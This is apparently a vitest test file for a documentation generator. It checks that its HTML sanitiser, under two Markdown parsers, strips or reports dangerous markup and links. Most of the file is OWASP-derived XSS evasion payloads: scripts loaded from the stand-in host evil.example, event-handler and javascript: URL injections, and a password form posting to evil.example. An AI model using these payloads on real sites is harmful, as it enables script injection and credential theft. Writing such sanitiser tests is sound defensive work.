// Handling of HTML in pages, with both parsers. The attacks are from OWASP's list of XSS filter evasions:
// https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
import type { Element } from 'hast';
import { beforeAll, describe, expect, it } from 'vitest';
import type { MarkdownOptions } from '../../../packages/generator/src/model/config.ts';
import { type Article, articleMaker } from './article.ts';

const attacks: readonly string[] = [
  '<script>window.attacked = 1</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>',
  '<SCRIPT/SRC="https://evil.example/xss.js"></SCRIPT>',
  '<<SCRIPT>alert(1);//\\<</SCRIPT>',
  '<SCRIPT SRC=https://evil.example/xss.js?< B >',
  '<SCRIPT SRC=//evil.example/.j>',
  '<SCRIPT a=">" SRC="https://evil.example/xss.js"></SCRIPT>',
  '<SCRIPT "a=\'>\'" SRC="https://evil.example/xss.js"></SCRIPT>',
  '</TITLE><SCRIPT>alert(1);</SCRIPT>',
  '<a onmouseover="alert(1)">x</a>',
  '<a onmouseover=alert(1)>x</a>',
  '<IMG SRC=x onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<IMG SRC=/ onerror="&#0000106&#0000097alert(1)"></img>',
  '<IMG SRC= onmouseover="alert(1)">',
  '<IMG onmouseover="alert(1)">',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>',
  '<BODY ONLOAD=alert(1)>',
  '<BODY BACKGROUND="javascript:alert(1)">',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<IFRAME SRC="javascript:alert(1)"></IFRAME>',
  '<IFRAME srcdoc="<script>alert(1)</script>"></IFRAME>',
  '<IFRAME SRC=# onmouseover="alert(1)"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(1)"></FRAMESET>',
  '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" AllowScriptAccess="always"></EMBED>',
  '<APPLET code="Evil.class"></APPLET>',
  '<BASE HREF="javascript:alert(1);//">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1)">',
  '<META HTTP-EQUIV="Set-Cookie" Content="USERID=x">',
  '<META name="docsgen-shell" content="https://evil.example/xss.js">',
  '<LINK REL="stylesheet" HREF="https://evil.example/xss.css">',
  '<STYLE>@import "https://evil.example/xss.css";</STYLE>',
  '<STYLE TYPE="text/css">BODY{background:url("javascript:alert(1)")}</STYLE>',
  '<DIV STYLE="background-image: url(javascript:alert(1))">x</DIV>',
  '<p style="position: fixed; inset: 0">over everything</p>',
  '<TABLE BACKGROUND="javascript:alert(1)"><TR><TD BACKGROUND="javascript:alert(1)">x</TABLE>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
  '<input type="text" onfocus="alert(1)" autofocus>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<form action="https://evil.example/"><input name="password"></form>',
  '<details ontoggle=alert(1) open>x</details>',
  '<video src=x onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<video><source onerror="alert(1)"></video>',
  '<BGSOUND SRC="javascript:alert(1);">',
  '<BR SIZE="&{alert(1)}">',
  '<LAYER SRC="https://evil.example/"></LAYER>',
  '<XSS STYLE="behavior: url(xss.htc);">',
  '<x-xss onclick="alert(1)">x</x-xss>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><script>alert(1)</script></title>',
  '<select><option><script>alert(1)</script></select>',
  '<xmp><script>alert(1)</script></xmp>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<plaintext><script>alert(1)</script>',
  '<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<? echo("<script>alert(1)</script>"); ?>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<div id="docsgen-page">{"page":{"kind":"home","body":"<img src=x onerror=alert(1)>"}}</div>',
  '<a id="docsgen"></a><form name="body"></form><img name="constructor"><img name="getElementById" src="x.png">',
  '<dialog open onclose=alert(1)>x</dialog>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<div popover onbeforetoggle=alert(1) autofocus tabindex=1 onfocus=alert(1)>x</div>',
];

/** Attacks in links, as HTML and as Markdown. */
const codeLinks: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'jav&#x09;ascript:alert(1)',
  'jav&#x0A;ascript:alert(1)',
  'jav&#x0D;ascript:alert(1)',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)',
  'javascript&colon;alert(1)',
  'javascript://%0aalert(1)',
  'vbscript:msgbox(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml;base64,PHN2Zy8+',
  'data:application/xhtml+xml,x',
  'data: text/html,x',
];

const parsers = ['native', 'remark'] as const;
const makers = new Map<string, Awaited<ReturnType<typeof articleMaker>>>();
const make = (html: MarkdownOptions['html'], parser: MarkdownOptions['parser'], text: string): Promise<Article> => {
  const maker = makers.get(`${html} ${parser}`);
  if (!maker) throw new Error('There is no such compiler.');
  return maker(text);
};

beforeAll(async () => {
  for (const html of ['allow', 'sanitize', 'escape'] as const)
    for (const parser of parsers) makers.set(`${html} ${parser}`, await articleMaker({ html, parser }));
});

const harmless =
  /^(a|abbr|b|blockquote|br|code|del|details|div|em|figcaption|figure|h[1-6]|hr|i|img|input|kbd|li|mark|ol|p|picture|pre|q|s|section|source|span|strong|sub|summary|sup|t(able|body|d|h|head|r)|ul)$/;

/**
 * Returns all parts of an article that could run, load or cover something, or imitate elements that the page's scripts
 * look for.
 */
function harm({ all }: Article): readonly string[] {
  return all(':not(article)').flatMap(({ tagName, properties }: Element) => [
    ...(harmless.test(tagName) ? [] : [`<${tagName}>`]),
    ...Object.entries(properties).flatMap(([name, value]) => {
      const isAddress = /^(href|src|action|formAction|data|background|cite|longDesc|poster|xLinkHref)$/.test(name);
      const isCode = isAddress && /^\s*(javascript|vbscript|data):/i.test(String(value).replace(/[\t\r\n]/g, ''));
      const isName = (name === 'id' && /^docsgen/i.test(String(value))) || (name === 'name' && tagName !== 'a');
      return isCode || isName || /^on|^style$|^background$|^srcDoc$|^autoFocus$|^popover$/i.test(name)
        ? [`${tagName} ${name}`]
        : [];
    }),
  ]);
}

describe.each(parsers)('HTML in pages, read by the %s parser', (parser) => {
  it.each(['sanitize', 'escape'] as const)('runs no code with markdown.html: %s', async (html) => {
    const found: string[] = [];
    for (const attack of attacks) {
      for (const text of [`Before ${attack} after.`, `- <div>\n  ${attack}\n  </div>\n\nafter`])
        for (const what of harm(await make(html, parser, text))) found.push(`${text}: ${what}`);
    }
    expect(found).toEqual([]);
  });

  it('allowed HTML is part of the page, without a diagnostic', async () => {
    const { one, html } = await make(
      'allow',
      parser,
      '<p style="color: red" onclick="go()">x</p>\n\n<script>go()</script>\n',
    );
    expect(one('p').properties).toEqual({ style: 'color: red', onClick: 'go()' });
    expect(html).toContain('<script>go()</script>');
  });

  it('escaped HTML is shown as text, except comments', async () => {
    const { html } = await make(
      'escape',
      parser,
      'a <b>c</b> <!-- note -->d\n\n<details>\n<summary>e</summary>\n</details>\n',
    );
    expect(html).toContain('<p>a &#x3C;b>c&#x3C;/b> d</p>');
    expect(html).toContain('<p>&#x3C;details>\n&#x3C;summary>e&#x3C;/summary>\n&#x3C;/details></p>');
    expect(html).not.toContain('note');
  });

  it('removed HTML is reported at its position', async () => {
    const text = [
      'text <video src="x.mp4"></video>',
      '<p class="admonition-title x" style="color: red" onclick="x()" title="t" data-a="1">a</p>',
      '<b id="docsgen-x">b</b> <a href="ftp://a.example" target="_blank">c</a>',
    ];
    const { diagnostics } = await make('sanitize', parser, `# T\n\n${text.join('\n\n')}\n`);
    expect(diagnostics.map(({ message, position, severity }) => [severity, message, position])).toEqual([
      ['warning', 'Removed <video>', { line: 3, column: 6 }],
      ['warning', "Removed 'class', 'style', 'onclick', 'data-a' from <p>", { line: 5, column: 1 }],
      ['warning', "Removed 'id' from <b>", { line: 7, column: 1 }],
      ['warning', 'Removed the URL ftp://a.example', { line: 7, column: 25 }],
    ]);
  });

  it('HTML that docsgen generates from Markdown, and harmless HTML, is preserved', async () => {
    const text = [
      '# Title',
      '## Part {#own}',
      ':::note[Look *here*]\nText\n:::',
      '> [!WARNING]\n> Mind',
      '```js title="a.js" {1} showLineNumbers\nlet a\n```',
      ':::tabs{group="lang"}\n```js\n1\n```\n```py\n2\n```\n:::',
      ':::steps\n1. One\n2. Two\n:::',
      '- [x] done\n- [ ] open',
      'Note[^1] and [ref][r].',
      '[^1]: Foot\n\n[r]: https://example.com/a',
      '| a | b |\n|:--|--:|\n| 1 | 2 |',
      '<details><summary>More</summary>\n\nText <kbd>Ctrl</kbd> <sub id="below">x</sub>\n\n</details>',
      '[call](tel:+34000) [mail](mailto:a@example.com)',
      '## constructor',
      '## docsgen',
    ].join('\n\n');
    const [kept, allowed] = [await make('sanitize', parser, text), await make('allow', parser, text)];
    expect(kept.html).toBe(allowed.html);
    expect(kept.diagnostics).toEqual([]);
  });
});

function protocolOf(href: string): string {
  return new URL(href, 'https://example.com').protocol;
}

describe.each(parsers)('links that would run code, read by the %s parser', (parser) => {
  it.each(['allow', 'sanitize', 'escape'] as const)(
    'links that would run code are reported and removed with markdown.html: %s',
    async (html) => {
      const silent: string[] = [];
      for (const link of codeLinks) {
        const asMarkdown = /^data: /.test(link) ? [] : [`[x](${link})`, `[x][r]\n\n[r]: ${link}`];
        const asHtml =
          html === 'escape'
            ? []
            : [`<a href="${link}">x</a>`, `<iframe src='${link}'></iframe>`, `<form action="${link}"></form>`];
        for (const text of [...asMarkdown, ...asHtml]) {
          const article = await make(html, parser, `text\n\n${text}\n`);
          const told = [
            ...article.facts.references,
            ...article.diagnostics.filter(({ message }) => /URL/.test(message)),
          ];
          const written = article.all(':not(article)').flatMap(({ properties }) => Object.values(properties));
          const runs = written.some((value) => /^(javascript|vbscript|data):/.test(protocolOf(String(value))));
          if (told.length !== 1 || told[0]?.position?.line === 1 || runs) silent.push(text);
        }
      }
      expect(silent).toEqual([]);
    },
  );

  it('images with harmless data URLs are allowed', async () => {
    const article = await make('allow', parser, '![x](data:image/svg+xml;base64,PHN2Zy8+)');
    expect(article.one('img').properties.src).toBe('data:image/svg+xml;base64,PHN2Zy8+');
  });
});
